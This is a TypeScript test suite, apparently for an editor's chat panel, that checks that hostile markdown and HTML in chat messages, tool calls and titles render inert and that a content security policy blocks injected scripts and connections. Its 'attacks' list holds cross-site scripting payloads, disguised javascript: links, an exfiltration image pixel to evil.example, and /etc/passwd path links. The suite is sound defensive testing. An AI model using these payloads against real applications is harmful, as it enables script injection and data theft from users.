import assert from 'node:assert/strict';
import { setTimeout as sleep } from 'node:timers/promises';
import { type ChatPage, chatOpener } from './chat-page';
import { asks, opened, says, turn, replied, finished, asked, calls } from './conversations';
import { heard, said } from './heard';
import { SessionHost } from './session-host';

const attacks = {
  script: '<script>window.hacked = 1</script>',
  'handler on an image': '<img src=x onerror="window.hacked = 1">',
  'handler on markup that is allowed': '<p onclick="window.hacked = 1">click me</p>',
  'image from elsewhere': '![secret](https://evil.example/pixel.png?key=1)',
  'image of data': '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  'script link': '[click](javascript:window.hacked=1)',
  'script link in disguise': '[click](&#106;avascript&colon;window.hacked=1) [click](JaVaScRiPt:window.hacked=1)',
  'command of the editor': '[click](command:workbench.action.terminal.new)',
  'link of another program': '[click](vscode://file/etc/passwd) [click](ms-settings:) [click](mailto:a@b.c)',
  'page of data': '[click](data:text/html,<script>window.hacked=1</script>)',
  'share of another host': '[click](//evil.example/share) [click](\\\\\\\\evil\\\\share)',
  'path that leaves the folder': '[click](../../../etc/passwd) [click](/etc/passwd)',
  'frame and form':
    '<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name=a><button>Run</button></form>',
  'style and base':
    '<style>* { display: none }</style><base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">',
  svg: '<svg><a xlink:href="javascript:window.hacked=1"><text>x</text></a><animate onbegin="window.hacked=1"/></svg>',
  'mutation of nesting':
    '<math><mtext><table><mglyph><style><img src=x onerror="window.hacked=1"></style></mglyph></table>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'language of a code block': '```ts" onclick="window.hacked=1\ncode\n```',
  'name of an element': '<div id="chat" class="composer" data-question><button>Run</button></div>',
  'reference of a link': '[x]: javascript:window.hacked=1\n\n[x]',
};

describe('hostile text', () => {
  const open = chatOpener();

  async function inert(chat: ChatPage, about?: string): Promise<void> {
    const { page } = chat;
    const log = page.getByRole('log', { name: 'Conversation' });
    for (const link of await log.getByText('click', { exact: true }).all()) await link.click();
    const found = await log.evaluate((element) => ({
      elements: [...new Set([...element.querySelectorAll('*')].map(({ localName }) => localName))],
      handlers: [...element.querySelectorAll('*')].flatMap(({ attributes }) =>
        [...attributes].map(({ name }) => name).filter((name) => /^(on|style|src|srcset|action|id|xlink)/.test(name)),
      ),
      links: [...element.querySelectorAll('a')].map((link) => link.getAttribute('href')),
      hacked: 'hacked' in window,
    }));
    const forbidden = [
      'script',
      'img',
      'iframe',
      'form',
      'input',
      'style',
      'base',
      'link',
      'meta',
      'svg',
      'math',
      'object',
    ];
    assert.deepEqual(
      found.elements.filter((name) => forbidden.includes(name)),
      [],
      about,
    );
    assert.deepEqual(found.handlers, [], about);
    assert.equal(found.hacked, false, about);
    for (const href of found.links) assert.match(href ?? '', /^(https:|#$)/);
    assert.equal(new URL(page.url()).pathname, '/chat/');
  }

  it('does nothing as an answer', async () => {
    const chat = await open();
    for (const [index, text] of Object.values(attacks).entries()) {
      const host = new SessionHost(`s${index}`);
      host.happens(opened, asks(text), turn, says(text), replied(), finished);
      await chat.post(host.whole());
      await inert(chat, text);
      assert.deepEqual(said(chat), [], text);
    }
  });

  it('does nothing while it is streamed, cut anywhere', async () => {
    const host = new SessionHost();
    host.happens(opened, asks('x'), turn);
    const chat = await open({ host });
    const text = Object.values(attacks).join('\n\n');
    for (let at = 0; at < text.length; at += 53) await chat.post(...host.happens(says(text.slice(at, at + 53))));
    await inert(chat);
  });

  it('does nothing in tools, approvals, notices and titles', async () => {
    const text = Object.values(attacks).join('\n');
    const host = new SessionHost();
    host.happens(
      { type: 'sessionOpened', kind: 'chat', root: 'file:///w', title: text },
      asks(text),
      turn,
      ...calls('a', text, text, text, { changes: [{ uri: text, before: null, after: 'x' }], outcome: 'unknown' }),
      { type: 'noticed', level: 'error', text },
      asked('b', { label: text, detail: text, reason: text }),
    );
    await inert(await open({ host }));
  });

  it('shows HTML as the text that it is', async () => {
    const host = new SessionHost();
    host.happens(opened, asks('x'), turn, says('Use <b>bold</b> and a<br>break.'), replied(), finished);
    const { page } = await open({ host });
    assert.equal(await page.getByRole('article', { name: 'Answer' }).innerText(), 'Use <b>bold</b> and a\nbreak.');
  });

  it('tells the editor of web links and of files in the folder, and goes nowhere itself', async () => {
    const host = new SessionHost();
    const text =
      '[web](https://example.com/a?b=1#c) [file](src/a%20b.ts#L3) [other](file:///etc/hosts) ![pic](https://x.example/y.png)';
    host.happens(opened, asks('x'), turn, says(text), replied(), finished);
    const chat = await open({ host });
    const { page } = chat;
    for (const name of ['web', 'file', 'other', 'pic']) await page.getByRole('link', { name }).click();
    await heard(chat, [
      { type: 'openLink', url: 'https://example.com/a?b=1#c' },
      { type: 'openLink', url: 'src/a%20b.ts#L3' },
      { type: 'openDocument', uri: 'file:///etc/hosts' },
      { type: 'openLink', url: 'https://x.example/y.png' },
    ]);
    assert.equal(new URL(page.url()).pathname + new URL(page.url()).hash, '/chat/');
  });

  it('would be stopped by the policy as well: inline scripts, inline styles, pictures and connections', async () => {
    const chat = await open();
    await chat.page.evaluate(async () => {
      const place = document.createElement('div');
      place.innerHTML = '<p style="color: red">x</p><img src="https://evil.example/x.png">';
      const script = document.createElement('script');
      script.textContent = 'window.hacked = 1';
      document.body.append(place, script);
      await fetch('https://evil.example/').catch(() => undefined);
    });
    const missing = (): string[] =>
      ['style-src-attr', 'script-src-elem', 'img-src', 'connect-src'].filter(
        (directive) => !chat.complaints.some((complaint) => complaint.startsWith(`${directive} stopped`)),
      );
    for (let waited = 0; waited < 3_000 && missing().length > 0; waited += 10) await sleep(10);
    assert.deepEqual(missing(), []);
    await chat.post(); // what else there is to say of it is here as well
    chat.complaints.splice(0);
    assert.equal(await chat.page.evaluate(() => 'hacked' in window), false);
  });
});
